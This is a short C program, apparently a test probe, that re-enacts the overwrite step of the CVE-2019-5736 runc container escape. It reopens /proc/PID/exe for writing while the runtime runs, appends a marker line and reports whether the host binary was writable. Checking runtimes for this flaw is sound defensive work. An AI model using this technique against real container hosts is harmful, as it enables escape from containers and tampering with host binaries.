// overwrite_exe PID: what a CVE-2019-5736 exploit does with CAP_SYS_PTRACE. Takes a handle
// (O_PATH) on /proc/PID/exe while PID runs the runtime, then for up to 10 s tries to reopen it for
// writing (refused with ETXTBSY while anyone runs it) and append a line. Prints one word of what
// happened: no-handle, written, write-refused, reopen-refused or busy.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 2) return 2;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    int handle = open(path, O_PATH);
    if (handle < 0) {
        printf("no-handle (%s)\n", strerror(errno));
        return 0;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    for (int i = 0; i < 1000; ++i) {
        int w = open(path, O_WRONLY | O_APPEND);
        if (w >= 0) {
            const char line[] = "\noverwritten by a container\n";
            if (write(w, line, sizeof line - 1) == (ssize_t)(sizeof line - 1))
                printf("written\n");
            else
                printf("write-refused (%s)\n", strerror(errno));
            return 0;
        }
        if (errno != ETXTBSY) {
            printf("reopen-refused (%s)\n", strerror(errno));
            return 0;
        }
        usleep(10000);
    }
    printf("busy\n");
    return 0;
}
